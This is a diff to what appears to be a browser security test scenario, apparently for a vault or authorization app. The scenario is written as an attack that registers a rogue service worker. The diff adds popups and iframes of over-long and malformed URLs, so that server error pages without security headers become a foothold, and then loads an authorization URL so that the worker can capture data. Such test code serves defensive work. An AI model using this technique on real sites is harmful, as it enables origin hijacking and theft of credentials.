@@ -9,11 +9,16 @@ export default attack({
     navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
     navigator.serviceWorker.startMessages();
   },
-  // From the page, and from every document of the origin that the page can get hold of.
+  // From the page, and from every document of the origin that the page can get hold of: also the server's own error pages
+  // (RFC 9110 section 15.5.15, RFC 6585 section 5), which come without the host's headers.
   async payload(it) {
     const script = "/worker-of-the-attacker.js";
-    const popup = window.open("/config.json");
+    const tooLong = `/?${"x".repeat(20_000)}`;
+    const popups = ["/config.json", tooLong].map((src) => window.open(src));
     const frames = [
+      tooLong,
+      "/%",
+      `/${"x".repeat(20_000)}`,
       "/empty.html",
       "/config.json",
       "/vault-worker.js",
@@ -27,7 +32,7 @@ export default attack({
       Promise.all(frames.map((frame) => new Promise((loaded) => frame.addEventListener("load", loaded)))),
     ]);
     let registered = false;
-    for (const place of [window, popup, ...frames.map((frame) => frame.contentWindow)]) {
+    for (const place of [window, ...popups, ...frames.map((frame) => frame.contentWindow)]) {
       try {
         const { navigator, trustedTypes } = place as unknown as typeof globalThis & {
           trustedTypes?: {
@@ -46,15 +51,13 @@ export default attack({
         // The next one.
       }
     }
-    popup?.close();
+    for (const popup of popups) popup?.close();
     if (!registered) return;
     const registration = await navigator.serviceWorker.getRegistration("/");
     while (!registration?.active?.scriptURL.endsWith(script)) await it.pause(50);
     const frame = document.createElement("iframe");
     frame.src = it.authorizationUrl();
     document.body.append(frame);
-    // Keepers come to the new worker when their streams have ended, and not at once.
-    await it.pause(6_000);
   },
   async play(stage) {
     await stage.playOwnWorker("/worker-of-the-attacker.js");
